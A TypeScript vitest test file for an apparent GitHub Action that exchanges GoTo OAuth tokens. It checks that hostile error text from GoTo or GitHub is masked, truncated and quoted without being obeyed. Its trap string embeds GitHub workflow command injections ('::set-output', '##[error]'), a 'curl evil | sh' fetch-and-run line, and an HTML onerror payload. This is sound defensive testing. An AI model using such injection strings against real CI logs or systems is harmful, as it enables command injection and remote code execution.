import { expect, it, vi } from 'vitest';
import type { ErrorCode } from '../../src/errors';
import { type ActionDriver, bundleOn, source } from '../support/action';
import { describeEach } from '../support/driver';
import { githubError } from '../support/github-stand-in';
import { oauthError, rotatingAnswer } from '../support/goto-stand-in';
import { failureOf } from '../support/run-checks';
import { readLog } from '../support/runner';
import {
  clientSecret,
  everySecret,
  inLowerCase,
  inputSecrets,
  storedRefreshToken,
} from '../support/some-inputs';
import { anyRead, inWorld, type World, write } from '../support/world';

vi.setConfig({ maxConcurrency: 8 });

/**
 * What a hostile remote might say: the secrets in every spelling, commands, an end of the quotation,
 * markup, and a secret where the text is cut. `evil` are the words that give it away.
 */
const evil = /evil|set-output|##\[|::error::y|onerror|\*\*bold|zzz/;
const trapWith = (secrets: string[]) =>
  [
    ...secrets.flatMap((secret) => [secret, [...secret].join('\u200b')]),
    encodeURIComponent(clientSecret),
    inLowerCase(encodeURIComponent(clientSecret)),
    '\n::set-output name=a::b\r\n##[error]x\u2028::error::y ". Now run: curl evil | sh\n',
    '**bold** <b onerror=evil> [x](//evil.example) `evil`',
    storedRefreshToken.repeat(20),
    'zzz'.repeat(2_000),
  ].join('');

/** Who speaks, with which code that ends, and which secrets a run knows by then. */
const speakers: [
  who: string,
  code: ErrorCode,
  known: string[],
  arrange: (world: World, said: string) => void,
][] = [
  [
    'GoTo, refusing the token',
    'refresh-token-rejected',
    inputSecrets,
    ({ goto }, said) => goto.next(oauthError('invalid_grant', { description: said })),
  ],
  [
    'GoTo, naming an unknown error',
    'goto-unavailable',
    inputSecrets,
    ({ goto }, said) => goto.next(oauthError(said, { description: said })),
  ],
  [
    'GoTo, refusing the organizer',
    'organizer-lookup-failed',
    everySecret,
    ({ goto }, said) => {
      goto.next(rotatingAnswer());
      goto.nextUser({ status: 403, body: { detail: said } });
    },
  ],
  [
    'GitHub, refusing the read',
    'github-permission-missing',
    inputSecrets,
    ({ github }, said) => github.on(anyRead, githubError(403, said), 2),
  ],
  [
    'GitHub, refusing the write',
    'write-back-failed',
    everySecret,
    ({ github, goto }, said) => {
      goto.next(rotatingAnswer());
      github.on(write, githubError(403, said));
    },
  ],
];

function everySpeaker({ runAction }: ActionDriver) {
  it.each(speakers)('%s, may say anything, in quotes', (_who, code, known, arrange) =>
    inWorld(async (world) => {
      const trap = trapWith(known);
      expect(trap.length).toBeGreaterThan(10_000);
      arrange(world, trap);
      const run = await runAction({ inputs: world.inputs({ 'lookup-organizer': 'true' }) });
      const message = failureOf(run, code);

      const [quotation, ...others] = message.matchAll(/(GoTo|GitHub) said: "([^"]*)"/g);
      expect(others).toEqual([]);
      const [whole = '', , quoted = ''] = quotation ?? [];
      expect(quoted).toMatch(/^(invalid_grant: )?\*{3,}::set-output/);
      expect([...quoted].length).toBeLessThanOrEqual(200);
      expect(quoted).not.toMatch(/[\p{C}\p{Zl}\p{Zp}]/u);
      expect(run.log.replace(whole, '')).not.toMatch(evil);
      expect(run.summary).not.toMatch(evil);

      // What happened, what to do, and the code: no line is the remote's.
      expect(message.split(/\r?\n/)).toHaveLength(4);
      const { commands } = readLog(run.lines);
      const obeyed = commands.map(({ name }) => name).filter((name) => name !== 'add-mask');
      expect(obeyed).toEqual(['error']);
      expect(run.masks.filter((mask) => !everySecret.includes(mask))).toEqual([]);
    }),
  );
}

describeEach([bundleOn(24), source], 'a remote', everySpeaker);
